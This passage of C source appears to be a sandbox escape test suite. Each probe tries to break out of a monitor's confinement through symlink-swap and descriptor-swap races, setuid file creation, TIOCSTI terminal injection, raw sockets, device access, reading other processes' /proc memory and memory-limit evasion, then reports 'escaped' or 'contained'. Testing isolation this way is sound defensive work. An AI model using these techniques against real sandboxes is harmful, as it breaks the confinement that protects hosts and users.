	if (madvise(p, len, MADV_DONTFORK) != 0)
		printf("MADV_DONTFORK refused: %s\n", strerror(errno));
	fflush(stdout);
	pid_t c = fork();
	if (c == 0) {
		/* New monitor mappings in the child: threads (stacks, vCPUs), memory. */
		pthread_t t[8];
		for (int i = 0; i < 8; i++)
			pthread_create(&t[i], NULL, sleeper, NULL);
		struct sigaction sa = { .sa_handler = probe_fault, .sa_flags = SA_NODEFER };
		sigaction(SIGSEGV, &sa, NULL);
		sigaction(SIGBUS, &sa, NULL);
		int monitor = 0, mapped = 0;
		for (size_t off = 0; off < len; off += 4096) {
			char first;
			if (!readable((volatile char *)p + off, &first))
				continue;
			mapped++;
			for (size_t i = 0; i < 4096; i += 8) {
				uintptr_t v = *(volatile uintptr_t *)(p + off + i);
				if (v >= dune_lo && v < dune_hi) {
					monitor++;
					break;
				}
			}
		}
		for (int i = 0; i < 8; i++)
			pthread_join(t[i], NULL);
		printf("child: %d pages of the dropped range readable, %d with pointers into the monitor\n", mapped, monitor);
		fflush(stdout);
		_exit(monitor ? 1 : 0);
	}
	int st = 0;
	waitpid(c, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
		escaped("the forked child read the monitor's memory in the MADV_DONTFORK hole");
	if (!WIFEXITED(st))
		escaped("the forked child died (status %#x): the monitor broke", st);
	contained();
}

/* ---- check by path, act by number ---------------------------------------------------- */

static volatile int race_stop;
static int race_victim, race_good, race_slot;

static void *swapper(void *a) {
	(void)a;
	while (!race_stop) {
		dup2(race_victim, race_slot);
		dup2(race_good, race_slot);
	}
	return NULL;
}

static void fchmod_race(const char *ro, const char *rw) {
	struct stat before;
	if (stat(ro, &before))
		exit(2);
	char f[512];
	snprintf(f, sizeof f, "%s/fchmod-target", rw);
	race_good = open(f, O_RDWR | O_CREAT, 0644);
	race_victim = open(ro, O_RDONLY | O_DIRECTORY);
	if (race_good < 0 || race_victim < 0)
		exit(2);
	race_slot = 200;
	dup2(race_good, race_slot);
	pthread_t t;
	pthread_create(&t, NULL, swapper, NULL);
	struct timespec times[2] = { { 12345, 0 }, { 12345, 0 } };
	int n = 0;
	for (double end = now() + 6; now() < end; n++) {
		fchmod(race_slot, 0700);
		futimens(race_slot, times);
		fchown(race_slot, -1, 4321);
	}
	race_stop = 1;
	pthread_join(t, NULL);
	struct stat after;
	stat(ro, &after);
	printf("%d rounds\n", n);
	if ((after.st_mode & 07777) != (before.st_mode & 07777))
		escaped("the read-only directory's mode changed from %o to %o", before.st_mode & 07777, after.st_mode & 07777);
	if (after.st_mtim.tv_sec == 12345)
		escaped("the read-only directory's times changed");
	if (after.st_gid != before.st_gid)
		escaped("the read-only directory's group changed to %d", after.st_gid);
	contained();
}

/* ---- the resolver's descriptors ---------------------------------------------------- */

static volatile int flood_stop;
static int flood_victim;

static void *flooder(void *a) {
	(void)a;
	while (!flood_stop)
		for (int k = 3; k < 48; k++)
			if (k != flood_victim)
				dup2(flood_victim, k);
	return NULL;
}

static int entries(const char *dir) {
	DIR *d = opendir(dir);
	struct dirent *e;
	int n = 0;
	if (!d)
		return -1;
	while ((e = readdir(d)))
		n += strcmp(e->d_name, ".") && strcmp(e->d_name, "..");
	closedir(d);
	return n;
}

static void resolver_race(const char *ro, const char *rw) {
	int before = entries(ro);
	char sub[512];
	snprintf(sub, sizeof sub, "%s/res", rw);
	mkdir(sub, 0755);
	flood_victim = open(ro, O_RDONLY | O_DIRECTORY);
	if (flood_victim < 0)
		exit(2);
	/* Out of the way of the numbers the flooder takes. */
	int hi = fcntl(flood_victim, F_DUPFD, 100);
	close(flood_victim);
	flood_victim = hi;
	pthread_t t;
	pthread_create(&t, NULL, flooder, NULL);
	char p[600];
	int n = 0;
	for (double end = now() + 6; now() < end; n++) {
		snprintf(p, sizeof p, "%s/d%d", sub, n);
		mkdir(p, 0755);
		snprintf(p, sizeof p, "%s/f%d", sub, n);
		int fd = open(p, O_CREAT | O_WRONLY, 0644);
		if (fd >= 48)
			close(fd);
		snprintf(p, sizeof p, "%s/l%d", sub, n);
		symlink("/etc/passwd", p);
	}
	flood_stop = 1;
	pthread_join(t, NULL);
	int after = entries(ro);
	printf("%d rounds\n", n);
	if (after != before)
		escaped("%d new entries appeared in the read-only directory %s", after - before, ro);
	contained();
}

/* ---- raw and packet sockets ----------------------------------------------------------- */

static void raw_sockets(void) {
	struct {
		int dom, type, proto;
		const char *what;
	} t[] = {
		{ AF_INET, SOCK_PACKET, htons(0x0003), "AF_INET SOCK_PACKET" },
		{ AF_INET, SOCK_RAW, IPPROTO_ICMP, "raw ICMP" },
		{ AF_INET, SOCK_RAW, IPPROTO_RAW, "raw IPv4" },
		{ AF_INET6, SOCK_RAW, IPPROTO_ICMPV6, "raw ICMPv6" },
		{ AF_INET, SOCK_DGRAM, IPPROTO_ICMP, "ICMP datagram (ping)" },
		{ AF_INET, SOCK_STREAM, IPPROTO_SCTP, "SCTP" },
	};
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
		int s = socket(t[i].dom, t[i].type, t[i].proto);
		if (s >= 0)
			escaped("opened a %s socket", t[i].what);
	}
	contained();
}

/* ---- set-id files ---------------------------------------------------------------------- */

static void check_setid(const char *p, const char *how) {
	struct stat st;
	if (stat(p, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID)) && S_ISREG(st.st_mode))
		escaped("%s left %s with mode %o", how, p, st.st_mode & 07777);
}

static void setid_files(const char *rw) {
	char p[512];
	snprintf(p, sizeof p, "%s/suid-open", rw);
	int fd = open(p, O_CREAT | O_WRONLY, 04755);
	if (fd >= 0)
		close(fd);
	check_setid(p, "open(O_CREAT, 04755)");
	snprintf(p, sizeof p, "%s/suid-fchmod", rw);
	fd = open(p, O_CREAT | O_WRONLY, 0755);
	fchmod(fd, 04755);
	close(fd);
	check_setid(p, "fchmod(04755)");
	snprintf(p, sizeof p, "%s/sgid-chmod", rw);
	close(open(p, O_CREAT | O_WRONLY, 0755));
	chmod(p, 02755);
	check_setid(p, "chmod(02755)");
	snprintf(p, sizeof p, "%s/sgid-fchmodat", rw);
	close(open(p, O_CREAT | O_WRONLY, 0755));
	fchmodat(AT_FDCWD, p, 06755, 0);
	check_setid(p, "fchmodat(06755)");
	snprintf(p, sizeof p, "%s/suid-mknod", rw);
	mknod(p, S_IFREG | 04755, 0);
	check_setid(p, "mknod(S_IFREG|04755)");
	snprintf(p, sizeof p, "%s/suid-creat", rw);
	fd = creat(p, 04711);
	if (fd >= 0)
		close(fd);
	check_setid(p, "creat(04711)");
	snprintf(p, sizeof p, "%s/suid-openat2", rw);
	struct {
		uint64_t flags, mode, resolve;
	} how = { O_CREAT | O_WRONLY, 04755, 0 };
	fd = syscall(SYS_openat2, AT_FDCWD, p, &how, sizeof how);
	if (fd >= 0)
		close(fd);
	check_setid(p, "openat2(O_CREAT, 04755)");
	contained();
}

static void madvise_advice(void) {
	char *p = mmap(NULL, 4 << 12, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memset(p, 1, 4 << 12);
	if (madvise(p, 4096, 101 /* MADV_SOFT_OFFLINE */) == 0)
		escaped("MADV_SOFT_OFFLINE took a host page out of service");
	if (madvise(p + 4096, 4096, 12 /* MADV_MERGEABLE */) == 0)
		escaped("MADV_MERGEABLE (page sharing with other processes)");
	if (madvise(p + 8192, 4096, 200) == 0)
		escaped("an unknown advice passed");
	contained();
}

/* ---- what the issue saw in the code ------------------------------------------------ */

static volatile int mr_stop;
static void *thread_churn(void *a) {
	(void)a;
	while (!mr_stop) {
		pthread_t t;
		if (pthread_create(&t, NULL, sleeper, NULL) == 0)
			pthread_join(t, NULL);
	}
	return NULL;
}

static void mremap_race(void) {
	pthread_t t;
	pthread_create(&t, NULL, thread_churn, NULL);
	int n = 0;
	for (double end = now() + 6; now() < end; n++) {
		char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			continue;
		p[0] = 1;
		char *q = mremap(p, 1 << 20, 2 << 20, MREMAP_MAYMOVE);
		munmap(q == MAP_FAILED ? p : q, 2 << 20);
	}
	mr_stop = 1;
	pthread_join(t, NULL);
	printf("%d rounds\n", n);
	contained();
}

/* The test reuses the pid outside the sandbox between the two lines. */
static void reused_pid(void) {
	pid_t c = fork();
	if (c == 0)
		_exit(0);
	int st;
	waitpid(c, &st, 0);
	printf("reaped %d\n", c);
	fflush(stdout);
	char line[64];
	if (!fgets(line, sizeof line, stdin))
		exit(2);
	int r = kill(c, SIGTERM);
	printf("kill: %d (%s)\n", r, r ? strerror(errno) : "sent");
	fflush(stdout);
	contained();
}

/* Run with limits {threads: 4, memory: 96 MiB, processes: 4}: children each within
 * the limits, together far beyond them. */
static void limits_across_processes(void) {
	int fds[2];
	if (pipe(fds))
		exit(2);
	int forks = 0;
	for (int i = 0; i < 8; i++) {
		pid_t c = fork();
		if (c < 0)
			break;
		forks++;
		if (c == 0) {
			int threads = 0;
			pthread_t t[3];
			for (int k = 0; k < 3; k++)
				threads += pthread_create(&t[k], NULL, sleeper, NULL) == 0;
			size_t len = 40 << 20;
			char *m = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			int mb = 0;
			if (m != MAP_FAILED) {
				memset(m, 1, len);
				mb = 40;
			}
			char msg[32];
			int n = snprintf(msg, sizeof msg, "%d %d\n", threads, mb);
			if (write(fds[1], msg, n) < 0)
				_exit(2);
			for (int k = 0; k < threads; k++)
				pthread_join(t[k], NULL);
			usleep(300 * 1000);
			_exit(0);
		}
	}
	close(fds[1]);
	FILE *in = fdopen(fds[0], "r");
	int threads = 1, mb = 0, a, b;
	while (fscanf(in, "%d %d", &a, &b) == 2) {
		threads += a + 1;
		mb += b;
	}
	while (wait(NULL) > 0)
		;
	printf("%d processes, %d threads, %d MiB at once\n", forks + 1, threads, mb);
	if (forks + 1 > 4)
		escaped("%d processes under a limit of 4", forks + 1);
	if (threads > 4)
		escaped("%d threads under a limit of 4", threads);
	if (mb > 96)
		escaped("%d MiB under a limit of 96", mb);
	contained();
}

/* Locks on a file the program may only read: seen in /proc/locks, where every
 * process on the machine sees them. */
static int lock_lines(ino_t ino) {
	FILE *f = fopen("/proc/locks", "r");
	char line[256];
	int n = 0;
	if (!f)
		return -1;
	/* "1: POSIX  ADVISORY  READ 1234 00:1f:12345 0 EOF" */
	while (fgets(line, sizeof line, f)) {
		for (char *tok = strtok(line, " \n"); tok; tok = strtok(NULL, " \n")) {
			unsigned maj, min;
			unsigned long in;
			if (sscanf(tok, "%x:%x:%lu", &maj, &min, &in) == 3 && in == ino)
				n++;
		}
	}
	fclose(f);
	return n;
}

static void locks_on_read_only(const char *ro) {
	char p[512];
	snprintf(p, sizeof p, "%s/marker", ro);
	int fd = open(p, O_RDONLY);
	if (fd < 0)
		exit(2);
	struct stat st;
	fstat(fd, &st);
	int before = lock_lines(st.st_ino);
	if (fcntl(fd, F_SETLEASE, F_RDLCK) == 0 && lock_lines(st.st_ino) > before)
		escaped("a lease on %s, a file the program may only read", p);
	if (flock(fd, LOCK_SH) == 0 && lock_lines(st.st_ino) > before)
		escaped("flock on %s, a file the program may only read", p);
	struct flock fl = { .l_type = F_RDLCK, .l_whence = SEEK_SET };
	if (fcntl(fd, F_SETLK, &fl) == 0 && lock_lines(st.st_ino) > before)
		escaped("a POSIX read lock on %s, a file the program may only read", p);
	contained();
}

/* Run with a terminal as stdin (the test gives it a pty). */
static void terminal_ioctls(void) {
	if (!isatty(0))
		printf("stdin is not a terminal\n");
	char c = 'x';
	if (ioctl(0, TIOCSTI, &c) == 0)
		escaped("TIOCSTI pushed input into the outer terminal");
	struct termios t;
	if (tcgetattr(0, &t) == 0) {
		t.c_lflag &= ~ECHO;
		if (tcsetattr(0, TCSANOW, &t) == 0)
			escaped("changed the outer terminal's modes (echo off)");
	}
	if (ioctl(0, TIOCSPGRP, &(pid_t){ getpid() }) == 0)
		escaped("made itself the terminal's foreground group");
	contained();
}

static void devices(void) {
	const char *devs[] = { "/dev/port", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/vda", "/dev/sda", "/dev/watchdog", "/dev/rtc0", "/dev/snapshot", "/dev/cpu/0/msr" };
	for (size_t i = 0; i < sizeof devs / sizeof devs[0]; i++) {
		int fd = open(devs[i], O_RDONLY | O_NONBLOCK);
		if (fd >= 0)
			escaped("opened the device %s, which no rule names", devs[i]);
	}
	contained();
}

static void sockopt_pointers(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	char buf[512] = { 0 };
	socklen_t l = 84;
	/* IPT_SO_GET_INFO with table "filter": the kernel answers only if it reached
	 * iptables. */
	strcpy(buf, "filter");
	errno = 0;
	if (getsockopt(s, IPPROTO_IP, 64, buf, &l) == 0)
		escaped("iptables answered IPT_SO_GET_INFO");
	if (errno != ENOPROTOOPT && errno != EPERM && errno != EACCES && errno != EINVAL)
		escaped("IPT_SO_GET_INFO reached the kernel (%s)", strerror(errno));
	errno = 0;
	if (setsockopt(s, IPPROTO_IP, 64 /* IPT_SO_SET_REPLACE */, buf, 200) == 0 || (errno != ENOPROTOOPT && errno != EPERM && errno != EACCES))
		escaped("IPT_SO_SET_REPLACE reached the kernel (%s)", strerror(errno));
	contained();
}

static void proc_fd_listing(void) {
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	if (!d)
		exit(2);
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		int fd = atoi(e->d_name);
		if (fd != dirfd(d) && fcntl(fd, F_GETFD) < 0 && errno == EBADF)
			escaped("/proc/self/fd lists descriptor %d, which the program cannot use", fd);
	}
	closedir(d);
	struct rlimit r;
	getrlimit(RLIMIT_NOFILE, &r);
	printf("RLIMIT_NOFILE %lu/%lu\n", (unsigned long)r.rlim_cur, (unsigned long)r.rlim_max);
	contained();
}

/* A sibling renumbers low descriptors while the first thread execs /bin/true: the
 * loader must load /bin/true, not the file the sibling put in its place. */
static volatile int swap_stop;
static int swap_src;
static void *exec_swapper(void *a) {
	(void)a;
	while (!swap_stop)
		for (int k = 3; k < 40; k++)
			if (k != swap_src)
				dup2(swap_src, k);
	return NULL;
}

static void exec_fd_swap(const char *rw) {
	char script[512];
	snprintf(script, sizeof script, "%s/impostor", rw);
	FILE *f = fopen(script, "w");
	fprintf(f, "#!/bin/sh\necho IMPOSTOR\n");
	fclose(f);
	chmod(script, 0755);
	swap_src = open(script, O_RDONLY);
	int hi = fcntl(swap_src, F_DUPFD, 100);
	close(swap_src);
	swap_src = hi;
	for (int i = 0; i < 20; i++) {
		pid_t c = fork();
		if (c == 0) {
			pthread_t t;
			pthread_create(&t, NULL, exec_swapper, NULL);
			usleep(1000);
			execl("/bin/echo", "/bin/echo", "genuine", (char *)NULL);
			_exit(3);
		}
		int st;
		waitpid(c, &st, 0);
	}
	/* The test checks that IMPOSTOR never appears in the output. */
	contained();
}

/* The program lowers RLIMIT_AS and RLIMIT_DATA as far as it likes: the monitor's
 * own memory must not be what runs out. */
static void rlimit_as(void) {
	struct rlimit r = { 16 << 20, 16 << 20 };
	setrlimit(RLIMIT_AS, &r);
	setrlimit(RLIMIT_DATA, &r);
	pthread_t t[4];
	for (int i = 0; i < 4; i++)
		if (pthread_create(&t[i], NULL, sleeper, NULL) == 0)
			pthread_join(t[i], NULL);
	char *p = malloc(64 << 20);
	printf("after the limits: threads ran, malloc(64 MiB) %s\n", p ? "worked" : "failed");
	contained();
}

/* ==== round 1 ============================================================================ */

static mode_t mode_of(const char *p) {
	struct stat st;
	return stat(p, &st) ? (mode_t)-1 : st.st_mode & 07777;
}

/* fchmodat2(dir, link, mode, AT_SYMLINK_NOFOLLOW): the monitor resolves the link
 * itself (not followed), finds it in the writable tree, and calls fchmodat(dir,
 * name, mode, 0), which follows the link. */
static void fchmodat2_nofollow(const char *ro, const char *rw) {
	char target[512], link[512];
	snprintf(target, sizeof target, "%s/marker", ro);
	snprintf(link, sizeof link, "%s/to-marker", rw);
	mode_t before = mode_of(target);
	if (symlink(target, link))
		printf("symlink: %s\n", strerror(errno));
	long r = syscall(452 /* fchmodat2 */, AT_FDCWD, link, 0606, AT_SYMLINK_NOFOLLOW);
	printf("fchmodat2(NOFOLLOW) = %ld (%s)\n", r, r ? strerror(errno) : "ok");
	mode_t after = mode_of(target);
	if (after != before)
		escaped("the read-only tree's %s changed mode from %o to %o", target, before, after);
	contained();
}

/* A sibling exchanges two names in the writable tree, a plain file and a symlink
 * out of it, while the first thread chmods the plain file's name. */
static volatile int xchg_stop;
static char xchg_a[512], xchg_b[512];
static long xchg_rounds;

static void *exchanger(void *arg) {
	(void)arg;
	while (!xchg_stop) {
		syscall(SYS_renameat2, AT_FDCWD, xchg_a, AT_FDCWD, xchg_b, 2 /* RENAME_EXCHANGE */);
		xchg_rounds++;
	}
	return NULL;
}

static void chmod_race(const char *ro, const char *rw) {
	char target[512];
	snprintf(target, sizeof target, "%s/marker", ro);
	snprintf(xchg_a, sizeof xchg_a, "%s/plain", rw);
	snprintf(xchg_b, sizeof xchg_b, "%s/link", rw);
	close(open(xchg_a, O_CREAT | O_WRONLY, 0644));
	if (symlink(target, xchg_b))
		exit(2);
	mode_t before = mode_of(target);
	pthread_t t;
	pthread_create(&t, NULL, exchanger, NULL);
	int n = 0, denied = 0;
	mode_t after = before;
	for (double end = now() + 8; now() < end && after == before; n++) {
		if (chmod(xchg_a, 0604))
			denied++;
		after = mode_of(target);
	}
	xchg_stop = 1;
	pthread_join(t, NULL);
	printf("%d chmods (%d failed), %ld exchanges\n", n, denied, xchg_rounds);
	if (after != before)
		escaped("chmod reached %s outside the writable tree: mode %o -> %o", target, before, after);
	contained();
}

/* The same exchange under connect(2) on a unix socket path: the monitor checks the
 * path, then hands the kernel /proc/self/fd/N/name, whose final name the kernel
 * follows. SOCKET is outside every writable tree; the test listens there. */
static void unix_connect_race(const char *rw, const char *outside) {
	snprintf(xchg_a, sizeof xchg_a, "%s/sock", rw);
	snprintf(xchg_b, sizeof xchg_b, "%s/link", rw);
	close(open(xchg_a, O_CREAT | O_WRONLY, 0644));
	if (symlink(outside, xchg_b))
		exit(2);
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	if (strlen(xchg_a) >= sizeof sa.sun_path)
		exit(2);
	memcpy(sa.sun_path, xchg_a, strlen(xchg_a) + 1);
	pthread_t t;
	pthread_create(&t, NULL, exchanger, NULL);
	int n = 0, refused = 0, denied = 0;
	char got[64] = "";
	for (double end = now() + 8; now() < end; n++) {
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		if (s < 0)
			exit(2);
		if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
			struct pollfd p = { .fd = s, .events = POLLIN };
			if (poll(&p, 1, 2000) == 1) {
				ssize_t k = read(s, got, sizeof got - 1);
				got[k > 0 ? k : 0] = 0;
			}
			close(s);
			break;
		}
		if (errno == ECONNREFUSED)
			refused++;
		else
			denied++;
		close(s);
	}
	xchg_stop = 1;
	pthread_join(t, NULL);
	printf("%d connects (%d refused by the plain file, %d denied), %ld exchanges\n", n, refused, denied, xchg_rounds);
	if (got[0]) {
		got[strcspn(got, "\n")] = 0;
		escaped("connected to the unix socket %s outside every tree; it said \"%s\"", outside, got);
	}
	contained();
}

/* Run as the leader of a process group that also holds a process outside the
 * sandbox (the test puts one there, as a shell does with a pipeline). */
static void group_kill(void) {
	printf("ready pgrp %d pid %d\n", (int)getpgrp(), (int)getpid());
	fflush(stdout);
	char line[64];
	if (!fgets(line, sizeof line, stdin))
		exit(2);
	signal(SIGTERM, SIG_IGN);
	int r = kill(0, SIGTERM);
	printf("kill(0, SIGTERM): %d (%s)\n", r, r ? strerror(errno) : "sent");
	r = kill(-getpgrp(), SIGTERM);
	printf("kill(-%d, SIGTERM): %d (%s)\n", (int)getpgrp(), r, r ? strerror(errno) : "sent");
	fflush(stdout);
	usleep(200 * 1000);
	contained();
}

/* SIGCHLD ignored: the kernel reaps the child, the monitor never sees a wait. The
 * test then has a process outside take the child's pid (and lead a group of that
 * number); the program aims SIGIO at it with F_SETOWN, and kills its group. */
static void autoreap_reuse(void) {
	signal(SIGCHLD, SIG_IGN);
	pid_t c = fork();
	if (c == 0)
		_exit(0);
	for (int i = 0; i < 100 && waitpid(c, NULL, WNOHANG) >= 0; i++)
		usleep(10 * 1000);
	usleep(100 * 1000);
	int r = kill(c, 0);
	printf("reaped %d\n", (int)c);
	fflush(stdout);
	fprintf(stderr, "kill(%d, 0) after the kernel reaped it: %d (%s)\n", (int)c, r, r ? strerror(errno) : "exists");
	char line[64];
	if (!fgets(line, sizeof line, stdin))
		exit(2);
	int p[2];
	if (pipe(p))
		exit(2);
	signal(SIGIO, SIG_IGN);
	r = fcntl(p[0], F_SETOWN, c);
	printf("F_SETOWN %d: %d (%s)\n", (int)c, r, r ? strerror(errno) : "set");
	if (r == 0 && fcntl(p[0], F_SETFL, O_ASYNC) == 0 && write(p[1], "x", 1) == 1)
		printf("SIGIO sent to the owner %d\n", (int)c);
	r = kill(-c, SIGTERM);
	printf("kill(-%d, SIGTERM): %d (%s)\n", (int)c, r, r ? strerror(errno) : "sent");
	fflush(stdout);
	usleep(200 * 1000);
	contained();
}

/* Touches every page of [p, p+len). */
static void touch(char *p, size_t len) {
	for (size_t o = 0; o < len; o += 4096)
		p[o] = 1;
}

/* Run under {"limits": {"memory": LIMIT_MIB MiB}}. check_limit(0, len) counts what
 * is already accessible in [0, len) as if the new mapping covered it: memory mapped
 * low in the address space is counted once for itself and subtracted again from
 * every later mapping at least that long. */
static void mmap_undercount(const char *limit_s) {
	size_t limit = strtoul(limit_s, NULL, 0) << 20;
	char *big = mmap(NULL, limit + (16 << 20), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	printf("a plain mmap of %zu MiB: %s\n", (limit >> 20) + 16, big == MAP_FAILED ? strerror(errno) : "mapped");
	if (big != MAP_FAILED)
		munmap(big, limit + (16 << 20));
	char *low = MAP_FAILED;
	size_t l;
	for (l = limit - (4 << 20); l >= (4 << 20); l -= (2 << 20)) {
		low = mmap((void *)0x10000, l, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
		if (low != MAP_FAILED)
			break;
	}
	if (low == MAP_FAILED) {
		printf("no low mapping: %s\n", strerror(errno));
		contained();
	}
	size_t len = 0x10000 + l;
	char *high = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	printf("low %zu MiB at %p, then %zu MiB: %s\n", l >> 20, (void *)low, len >> 20, high == MAP_FAILED ? strerror(errno) : "mapped");
	if (high == MAP_FAILED)
		contained();
	touch(low, l);
	touch(high, len);
	size_t total = l + len;
	if (total > limit)
		escaped("touched %zu MiB of fresh memory under a limit of %zu MiB", total >> 20, limit >> 20);
	contained();
}

/* A static ELF whose bss is `bss` bytes at 0x10000000; it touches every page and
 * exits 42. */
static int write_bss_elf(const char *path, uint64_t bss) {
	unsigned char code[] = {
		0x48, 0xbf, 0, 0, 0, 0x10, 0, 0, 0, 0, /* mov $0x10000000, %rdi */
		0x48, 0xb9, 0, 0, 0, 0, 0, 0, 0, 0, /* mov $pages, %rcx */
		0xc6, 0x07, 0x01, /* 1: movb $1, (%rdi) */
		0x48, 0x81, 0xc7, 0x00, 0x10, 0x00, 0x00, /* add $4096, %rdi */
		0x48, 0xff, 0xc9, /* dec %rcx */
		0x75, 0xf1, /* jnz 1b */
		0xbf, 0x2a, 0, 0, 0, /* mov $42, %edi */
		0xb8, 0x3c, 0, 0, 0, /* mov $60, %eax (exit) */
		0x0f, 0x05, /* syscall */
	};
	uint64_t pages = bss / 4096;
	memcpy(code + 12, &pages, 8);
	Elf64_Ehdr eh = { 0 };
	Elf64_Phdr ph[2] = { { 0 } };
	size_t size = sizeof eh + sizeof ph + sizeof code;
	memcpy(eh.e_ident, ELFMAG, SELFMAG);
	eh.e_ident[EI_CLASS] = ELFCLASS64;
	eh.e_ident[EI_DATA] = ELFDATA2LSB;
	eh.e_ident[EI_VERSION] = EV_CURRENT;
	eh.e_type = ET_EXEC;
	eh.e_machine = EM_X86_64;
	eh.e_version = EV_CURRENT;
	eh.e_entry = 0x400000 + sizeof eh + sizeof ph;
	eh.e_phoff = sizeof eh;
	eh.e_ehsize = sizeof eh;
	eh.e_phentsize = sizeof ph[0];
	eh.e_phnum = 2;
	ph[0] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_offset = 0, .p_vaddr = 0x400000, .p_paddr = 0x400000, .p_filesz = size, .p_memsz = size, .p_align = 4096 };
	ph[1] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_W, .p_offset = 0, .p_vaddr = 0x10000000, .p_paddr = 0x10000000, .p_filesz = 0, .p_memsz = bss, .p_align = 4096 };
	int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY, 0755);
	if (fd < 0)
		return -1;
	int ok = write(fd, &eh, sizeof eh) == sizeof eh && write(fd, ph, sizeof ph) == sizeof ph && write(fd, code, sizeof code) == sizeof code;
	close(fd);
	return ok ? 0 : -1;
}

static void exec_bss(const char *rw, const char *limit_s) {
	size_t limit = strtoul(limit_s, NULL, 0) << 20;
	uint64_t bss = 2 * limit + (16 << 20);
	char path[512];
	snprintf(path, sizeof path, "%s/bss.elf", rw);
	if (write_bss_elf(path, bss))
		exit(2);
	char *big = mmap(NULL, bss, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	printf("a plain mmap of %lu MiB: %s\n", (unsigned long)(bss >> 20), big == MAP_FAILED ? strerror(errno) : "mapped");
	if (big != MAP_FAILED)
		munmap(big, bss);
	pid_t c = fork();
	if (c < 0)
		exit(2);
	if (c == 0) {
		execl(path, path, (char *)NULL);
		_exit(3);
	}
	int st = 0;
	waitpid(c, &st, 0);
	printf("the image exited with status %#x\n", st);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
		escaped("an image with %lu MiB of bss ran and touched every page under a limit of %zu MiB", (unsigned long)(bss >> 20), limit >> 20);
	contained();
}

/* With --allow-net 127.0.0.1:9 (no bind rule for the wildcard): a UDP socket is
 * connected to 127.0.0.1:9, so bound to 127.0.0.1 and a port; sendto sees a bound
 * socket and passes. A sibling dissolves the association (connect AF_UNSPEC), which
 * unbinds it; if that lands between the monitor's check and the kernel's sendto, the
 * kernel binds the socket to 0.0.0.0 and a port of its choosing. */
static volatile int ub_state, ub_stop;
static int ub_sock;

static void *ub_dissolver(void *a) {
	(void)a;
	struct sockaddr un = { .sa_family = AF_UNSPEC };
	while (!ub_stop) {
		if (ub_state == 1) {
			connect(ub_sock, &un, sizeof un);
			ub_state = 2;
		}
	}
	return NULL;
}

static void udp_bind_race(void) {
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	pthread_t t;
	pthread_create(&t, NULL, ub_dissolver, NULL);
	int n = 0, sends = 0;
	char a[64] = "";
	int port = 0;
	for (double end = now() + 8; now() < end; n++) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to))
			exit(2);
		ub_sock = s;
		ub_state = 1;
		while (ub_state != 2) {
			sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to);
			sends++;
		}
		port = port_of(s, a, sizeof a);
		ub_state = 0;
		if (port > 0 && !strcmp(a, "0.0.0.0"))
			break;
		close(s);
	}
	ub_stop = 1;
	pthread_join(t, NULL);
	printf("%d rounds, %d sends\n", n, sends);
	if (port > 0 && !strcmp(a, "0.0.0.0"))
		escaped("a UDP socket bound to %s:%d (the wildcard) with no bind rule for it", a, port);
	contained();
}

/* The memory of a process outside the sandbox, through /proc. */
static void proc_environ(void) {
	char p[64];
	int pids[2] = { 1, (int)getppid() };
	const char *what[] = { "environ", "maps", "auxv" };
	for (int i = 0; i < 2; i++) {
		for (int k = 0; k < 3; k++) {
			snprintf(p, sizeof p, "/proc/%d/%s", pids[i], what[k]);
			int fd = open(p, O_RDONLY);
			if (fd < 0) {
				printf("open %s: %s\n", p, strerror(errno));
				continue;
			}
			char buf[256];
			ssize_t n = read(fd, buf, sizeof buf);
			printf("read %s: %zd%s%s\n", p, n, n < 0 ? " " : "", n < 0 ? strerror(errno) : "");
			close(fd);
			if (n > 0)
				escaped("read %zd bytes of %s, another process's memory", n, p);
		}
	}
	contained();
}

static void rename_whiteout(const char *rw) {
	char a[512], b[512];
	snprintf(a, sizeof a, "%s/wo-a", rw);
	snprintf(b, sizeof b, "%s/wo-b", rw);
	close(open(a, O_CREAT | O_WRONLY, 0644));
	long r = syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 4 /* RENAME_WHITEOUT */);
	printf("renameat2(RENAME_WHITEOUT) = %ld (%s)\n", r, r ? strerror(errno) : "ok");
	struct stat st;
	if (lstat(a, &st) == 0 && S_ISCHR(st.st_mode))
		escaped("a character device %u:%u appeared at %s", major(st.st_rdev), minor(st.st_rdev), a);
	contained();
}

/* fchmod's check (fds::writable) resolves the descriptor's path (as /proc/self/fd
 * shows it) with the walk, whose descriptors are born at low numbers, without the
 * pin the path calls hold. The walk's first descriptor is its root (a duplicate of
 * the tree "/", at 3: the program keeps 3 free). A sibling replaces it with an O_PATH
 * descriptor of a directory "fake" in the writable tree that mirrors the file's
 * path, the last directory of which is a symlink into the writable tree: the walk
 * splices the link, decides on a writable path, and fchmod then acts on the
